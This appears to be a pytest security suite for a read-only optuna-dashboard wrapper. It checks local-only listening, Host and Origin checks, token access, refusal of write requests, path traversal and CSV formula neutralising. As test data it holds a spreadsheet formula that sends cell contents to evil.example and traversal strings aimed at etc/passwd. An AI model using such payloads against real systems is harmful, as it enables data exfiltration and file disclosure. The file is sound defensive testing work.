"""S6 and S7: the dashboard shows itself to whom it should, and lets nobody change anything who was not meant to."""

from __future__ import annotations

import csv
import io
import json
import re
import socket
from collections.abc import Callable, Iterator
from contextlib import closing
from pathlib import Path
from typing import Any

import optuna
import psutil
import pytest
from optuna.storages import RDBStorage
from optuna.study import StudyDirection
from optuna_dashboard._app import create_app

from paretosearch.errors import UsageError
from paretosearch.report import dashboard
from paretosearch.report.dashboard import _storage, serve
from paretosearch.testing.dashboards import Dashboard, searched
from paretosearch.testing.postgres import PostgresServer

NoteAttacks = Callable[[int, str, int, int, str], None]
Serve = Callable[..., Dashboard]

TOKEN = "token-of-this-test_0123456789"
#: A note of a trial that a spreadsheet would run, and what is told of a study by whom must change nothing.
FORMULA = '=HYPERLINK("http://evil.example/"&A1,"x")'


@pytest.fixture(scope="module")
def sqlite_url(tmp_path_factory: pytest.TempPathFactory) -> str:
    return searched(f"sqlite:///{tmp_path_factory.mktemp('db')}/my.db", {"message": FORMULA})


@pytest.fixture(scope="module")
def default(serve: Serve, sqlite_url: str) -> Dashboard:
    """A dashboard as it is without options."""
    return serve(sqlite_url)


@pytest.fixture(scope="module")
def exposed(serve: Serve, sqlite_url: str) -> Dashboard:
    """A dashboard for the network, with a token of its own."""
    return serve(sqlite_url, "--expose", "--host", "0.0.0.0")


@pytest.fixture(scope="module")
def postgres_url(postgres: PostgresServer) -> str:
    return searched(postgres.new_database())


@pytest.fixture(scope="module")
def given(serve: Serve, postgres_url: str, tmp_path_factory: pytest.TempPathFactory) -> Dashboard:
    """A dashboard of a PostgreSQL database, with a token from a file."""
    file = tmp_path_factory.mktemp("secret") / "token"
    file.write_text(f"{TOKEN}\n")
    file.chmod(0o600)
    return serve(
        f"{postgres_url}&options=-c%20search_path%3Dpublic", "--expose", PARETOSEARCH_DASHBOARD_TOKEN_FILE=str(file)
    )


def token_of(dashboard: Dashboard) -> str:
    found = re.search(r"\?token=(\S+) ", dashboard.said[0])
    assert found is not None
    return found[1]


def cookie_of(dashboard: Dashboard, token: str) -> str:
    status, _, headers = dashboard.ask("GET", f"/?token={token}")
    assert status == 200
    return headers["Set-Cookie"].partition(";")[0]


def local_addresses() -> list[str]:
    """Addresses of this machine, and of its own network, other than the one that is listened to."""
    found = [
        a for parts in psutil.net_if_addrs().values() for a in parts if a.family in (socket.AF_INET, socket.AF_INET6)
    ]
    return [*{a.address for a in found} - {"127.0.0.1"}, "127.0.0.2", "127.255.255.254"]


def test_without_options_no_other_address_is_listened_to(default: Dashboard, note_attacks: NoteAttacks) -> None:
    assert default.ask("GET", "/dashboard")[0] == 200
    addresses = local_addresses()
    for address in addresses:
        with pytest.raises(OSError):
            socket.create_connection((address, default.port), timeout=5).close()
    note_attacks(6, "refused", len(addresses), len(addresses), "connections and requests")


@pytest.mark.parametrize("host", ["0.0.0.0", "::", "", "192.0.2.7", "example.org", "127.0.0.1.example.org", "0"])
def test_the_network_needs_to_be_asked_for(
    sqlite_url: str, host: str, monkeypatch: pytest.MonkeyPatch, note_attacks: NoteAttacks
) -> None:
    monkeypatch.setattr(dashboard, "_listen", lambda *_: pytest.fail("it listened"))
    with pytest.raises(UsageError, match=r"would show the dashboard.*ssh -L.*or add --expose"):
        serve(sqlite_url, host=host, port=0)
    note_attacks(6, "refused", 1, 1, "connections and requests")


def test_a_site_that_points_its_name_here_reads_nothing(default: Dashboard, note_attacks: NoteAttacks) -> None:
    hosts = [
        "evil.example",
        f"evil.example:{default.port}",
        "127.0.0.1.evil.example",
        "localhost.evil",
        "[",
        "[::1",
        "",
    ]
    hosts += ["0.0.0.0", "127.0.0.1@evil.example", "evil.example#@127.0.0.1", "2130706433", "0x7f.1"]
    for host in hosts:
        status, text, _ = default.ask("GET", "/api/studies", Host=host)
        assert (status, "mnist" in text) == (403, False), host
    for origin in ("http://evil.example", "null", "https://127.0.0.1", f"http://127.0.0.1:{default.port + 1}"):
        assert default.ask("GET", "/api/studies", Origin=origin)[0] == 403, origin
    note_attacks(6, "refused", len(hosts) + 4, len(hosts) + 4, "connections and requests")


def test_an_exposed_dashboard_says_its_link_once_and_the_risk(exposed: Dashboard, given: Dashboard) -> None:
    link, risk = exposed.said
    assert re.fullmatch(
        r"optuna-dashboard, read-only: http://[^/]+:\d+/\?token=[\w-]{43} \(Ctrl-C ends it\)\n", link
    ), link
    assert socket.gethostname() in link
    assert re.match(r"there is no TLS: .* safer: ssh -L \d+:127.0.0.1:\d+ ", risk)
    assert TOKEN not in "".join(given.said)  # whoever gave it has it, and logs of containers are read by many
    assert "/?token=TOKEN with that of PARETOSEARCH_DASHBOARD_TOKEN_FILE" in given.said[0]
    assert "listens on this machine alone" in given.said[1]
    assert token_of(exposed).encode() not in Path(f"/proc/{exposed.process.pid}/cmdline").read_bytes()


def said(text: str) -> str:
    """Give the line of a refusal; a page of the dashboard gets it as JSON."""
    return json.loads(text)["reason"] if text.startswith("{") else text.rstrip("\n")


def routes() -> list[tuple[str, str]]:
    """All that optuna-dashboard answers to, with numbers and names put into its paths."""
    storage = RDBStorage("sqlite://")
    found = [(route.method, route.rule) for route in create_app(storage).routes]
    storage.remove_session()
    storage.engine.dispose()
    filled = [(method, re.sub(r"<\w+:int>", "1", re.sub(r"<:re:[^>]*>", "", rule))) for method, rule in found]
    return [(method, re.sub(r"<[^>]*>", "x", rule)) for method, rule in filled]


ROUTES = routes()
CHANGING = [(method, path) for method, path in ROUTES if method not in ("GET", "HEAD")]


def test_every_way_of_optuna_dashboard_is_known() -> None:
    assert len(CHANGING) >= 15
    assert ("DELETE", "/api/studies/1") in CHANGING


def tries(dashboard: Dashboard, token: str) -> Iterator[dict[str, str]]:
    """Headers that let nobody in."""
    cookie = cookie_of(dashboard, token)
    name, _, value = cookie.partition("=")
    yield {}
    for wrong in ("", "x", token[:-1], token + "x", token.upper(), "é", value):
        yield {"Authorization": f"Bearer {wrong}"}
        yield {"Authorization": f"Basic {wrong}"}
    for wrong in ("", value[:-1], value + "0", token, "é", f"{value},x"):
        yield {"Cookie": f"{name}={wrong}"}
    yield {"Cookie": f"other={value}"}
    yield {"Cookie": f"x{name}={value}"}
    yield {"X-Token": token}
    yield {"Referer": f"http://127.0.0.1/?token={token}"}


def test_nobody_comes_in_without_the_token(exposed: Dashboard, given: Dashboard, note_attacks: NoteAttacks) -> None:
    refused = 0
    for method, path in ROUTES:
        status, text, headers = exposed.ask(method, path, body="{}")
        assert (status, said(text)) == (401, "the dashboard asks for its token: open the link that it printed"), path
        assert headers["WWW-Authenticate"].startswith("Bearer")
        refused += 1
    for shown, token in ((exposed, token_of(exposed)), (given, TOKEN)):
        for headers in tries(shown, token):
            encoded = {name: value.encode().decode("latin-1") for name, value in headers.items()}
            assert shown.ask("GET", "/api/studies", **encoded)[0] == 401, headers
            refused += 1
        for query in (
            "token=",
            "token=x",
            f"token={token[:-1]}",
            f"Token={token}",
            f"token=x&token={token}",
            "token=%00",
        ):
            assert shown.ask("GET", f"/api/studies?{query}")[0] == 401, query
            refused += 1
    foreign = cookie_of(given, TOKEN)  # a browser sends it to every port of a machine
    assert exposed.ask("GET", "/api/studies", Cookie=foreign)[0] == 401
    note_attacks(6, "refused", refused + 1, refused + 1, "connections and requests")


def test_who_has_the_token_is_let_in_by_link_cookie_and_header(exposed: Dashboard, given: Dashboard) -> None:
    for shown, token in ((exposed, token_of(exposed)), (given, TOKEN)):
        status, text, headers = shown.ask("GET", f"/?token={token}")
        assert (status, 'url=/dashboard"' in text, token in text) == (200, True, False)
        cookie = headers["Set-Cookie"]
        assert cookie.endswith("; HttpOnly; SameSite=Strict; Path=/")
        assert token not in cookie
        assert (headers["Referrer-Policy"], headers["Cache-Control"]) == ("no-referrer", "no-store")
        for way in ({"Cookie": f"a=b; {cookie.partition(';')[0]}; c=d"}, {"Authorization": f"Bearer {token}"}):
            status, text, _ = shown.ask("GET", "/api/studies", **way)
            assert status == 200
            assert json.loads(text)["study_summaries"][0]["study_name"] == "mnist"
    address = next((a for a in local_addresses() if a.count(".") == 3 and not a.startswith("127.")), "127.0.0.2")
    assert exposed.ask("GET", "/dashboard", address, Authorization=f"Bearer {token_of(exposed)}")[0] == 200


def studies(dashboard: Dashboard, **headers: str) -> Any:
    listed = json.loads(dashboard.ask("GET", "/api/studies", **headers)[1])["study_summaries"]
    return listed, json.loads(dashboard.ask("GET", "/api/studies/1", **headers)[1])


def test_no_request_changes_a_study(default: Dashboard, given: Dashboard, note_attacks: NoteAttacks) -> None:
    body = json.dumps({"study_name": "other", "directions": ["minimize"], "state": "Fail", "version": 1, "body": "x"})
    refused, lost = 0, 0
    for shown in (default, given):
        known = {} if shown is default else {"Cookie": cookie_of(given, TOKEN)}
        before = studies(shown, **known)
        own = f"http://127.0.0.1:{shown.port}"
        for method, path in CHANGING:
            for way in ({}, {"Origin": own}, {"X-HTTP-Method-Override": "GET"}):
                status, text, _ = shown.ask(
                    method, path, body=body, **{"Content-Type": "application/json"}, **known, **way
                )
                assert (status, said(text)) == (405, "read-only; start it with --allow-changes to change"), path
                refused += 1
        for method in ("delete", "OPTIONS", "TRACE", "PROPFIND", "GETx"):
            assert shown.ask(method, "/api/studies/1", **known)[0] == 405
            refused += 1
        lost += studies(shown, **known) != before
    assert lost == 0
    note_attacks(7, "refused", refused, refused, "requests to change")
    note_attacks(7, "studies lost", lost, 2, "studies")


@pytest.mark.parametrize("kind", ["sqlite_url", "postgres_url"])
def test_the_database_itself_refuses_what_the_guard_would_let_through(
    kind: str, request: pytest.FixtureRequest, note_attacks: NoteAttacks
) -> None:
    storage = _storage(request.getfixturevalue(kind), allow_changes=False)
    trial = storage.get_all_trials(1)[0]._trial_id
    changes: list[Callable[[], object]] = [
        lambda: storage.delete_study(1),
        lambda: storage.create_new_study([StudyDirection.MINIMIZE], "new"),
        lambda: storage.create_new_trial(1),
        lambda: storage.set_study_user_attr(1, "a", "b"),
        lambda: storage.set_study_system_attr(1, "a", "b"),
        lambda: storage.set_trial_system_attr(trial, "a", "b"),
    ]
    for change in changes:
        with pytest.raises((optuna.exceptions.StorageInternalError, optuna.exceptions.UpdateFinishedTrialError)):
            change()
        assert [study.study_name for study in storage.get_all_studies()] == ["mnist"]
    storage.remove_session()
    storage.engine.dispose()
    note_attacks(7, "refused", len(changes), len(changes), "requests to change")
    note_attacks(7, "studies lost", 0, 1, "studies")


@pytest.mark.parametrize("way", ["..", "%2e%2e", "..%2f", "%2e%2e%2f", "..%5c", "....//", "%00", "/"])
def test_no_path_leads_out_of_what_is_served(default: Dashboard, way: str, note_attacks: NoteAttacks) -> None:
    count = 0
    for place in ("/static/", "/artifacts/1/", "/artifacts/1/1/", "/csv/", "/dashboard/", "/"):
        for target in ("etc/passwd", "_app.py", "my.db"):
            path = f"{place}{f'{way}/' * 8}{target}"
            _, text, _ = default.ask("GET", path)
            assert "root:" not in text
            assert "import " not in text.partition("<script")[0]
            assert "SQLite format" not in text
            count += 1
    note_attacks(4, "files outside root", 0, count, "names and links")


def test_a_table_for_a_spreadsheet_has_no_formula(default: Dashboard, note_attacks: NoteAttacks) -> None:
    status, text, headers = default.ask("GET", "/csv/1")
    assert status == 200
    assert headers["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows for cell in row]
    assert f"'{FORMULA}" in cells
    assert [row[:4] for row in rows[1:]] == [["0", "COMPLETE", "2.0", "0.8"], ["1", "COMPLETE", "3.0", "0.9"]]
    assert not [cell for cell in cells if cell.startswith(("=", "@", "+", "-"))]
    note_attacks(8, "cells executed", 0, len(cells), "cells")


def test_who_says_nothing_or_nonsense_is_let_go(default: Dashboard) -> None:
    for said in (b"", b"\x00\xff\r\n\r\n", b"GET / HTTP/9.9\r\n\r\n", b"GET " + b"a" * 70_000, b"\x16\x03\x01\x02\x00"):
        with closing(socket.create_connection(("127.0.0.1", default.port), timeout=10)) as visitor:
            visitor.sendall(said)
    assert default.ask("GET", "/dashboard")[0] == 200  # and the fixture sees that it said nothing of them
